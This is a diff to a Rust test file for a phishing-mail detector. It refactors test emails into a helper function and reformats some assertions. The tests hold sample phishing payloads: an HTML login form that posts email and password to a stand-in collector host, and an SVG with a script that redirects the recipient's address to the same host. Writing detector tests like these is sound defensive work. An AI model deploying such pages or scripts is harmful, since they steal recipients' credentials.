@@ -14,6 +14,15 @@ fn html_mail(from: &str, to: &str, subject: &str, html: &str) -> Vec<u8> {
     .into_bytes()
 }
 
+/// A text/plain mail from an accounts department, to carry attachments.
+fn plain_mail(subject: &str, body: &str) -> String {
+    format!(
+        "From: Accounts <billing@mail.example.net>\r\nTo: user@example.jp\r\nSubject: {subject}\r\n\
+         Date: Mon, 4 Mar 2024 10:00:00 +0000\r\nMessage-ID: <a2@mail.example.net>\r\n\
+         Content-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n"
+    )
+}
+
 fn ids(rec: &MessageRecord) -> Vec<&str> {
     rec.findings.iter().map(|f| f.id.as_str()).collect()
 }
@@ -156,9 +165,7 @@ fn bulk_sender_signals() {
 #[test]
 fn html_attachment_login_page() {
     let det = Detectors::new(&Config::default()).unwrap();
-    let eml = "From: Accounts <billing@mail.example.net>\r\nTo: user@example.jp\r\nSubject: Remittance advice\r\n\
-        Date: Mon, 4 Mar 2024 10:00:00 +0000\r\nMessage-ID: <a2@mail.example.net>\r\n\
-        Content-Type: text/plain; charset=utf-8\r\n\r\nPlease see the attached remittance advice.\r\n";
+    let eml = &plain_mail("Remittance advice", "Please see the attached remittance advice.");
     let page = b"<html><body><h3>Sign in to view the document</h3>\
         <form action=\"https://collector.example.org/p.php\" method=post><input name=email>\
         <input type=password name=pass><button>View</button></form>\
@@ -181,9 +188,7 @@ fn html_attachment_login_page() {
 #[test]
 fn svg_attachments_are_read_as_pages() {
     let det = Detectors::new(&Config::default()).unwrap();
-    let eml = "From: Accounts <billing@mail.example.net>\r\nTo: user@example.jp\r\nSubject: Voice message\r\n\
-        Date: Mon, 4 Mar 2024 10:00:00 +0000\r\nMessage-ID: <a3@mail.example.net>\r\n\
-        Content-Type: text/plain; charset=utf-8\r\n\r\nYou have a new voice message.\r\n";
+    let eml = &plain_mail("Voice message", "You have a new voice message.");
     let redirect = b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">\
         <script><![CDATA[window.location.href='https://collector.example.org/vm?e='+'user@example.jp';]]></script></svg>"
         .to_vec();
@@ -209,11 +214,16 @@ fn svg_attachments_are_read_as_pages() {
         assert_eq!(rec.html_attachments.len(), usize::from(active), "{name}");
         if active {
             assert!(
-                rec.urls.iter().any(|u| u.host.as_deref() == Some("collector.example.org")),
+                rec.urls
+                    .iter()
+                    .any(|u| u.host.as_deref() == Some("collector.example.org")),
                 "{name}: the page's URL is an indicator"
             );
         } else {
-            assert!(!found.iter().any(|f| f.starts_with("html.attachment")), "{name}: {found:?}");
+            assert!(
+                !found.iter().any(|f| f.starts_with("html.attachment")),
+                "{name}: {found:?}"
+            );
         }
         ran += 1;
     }
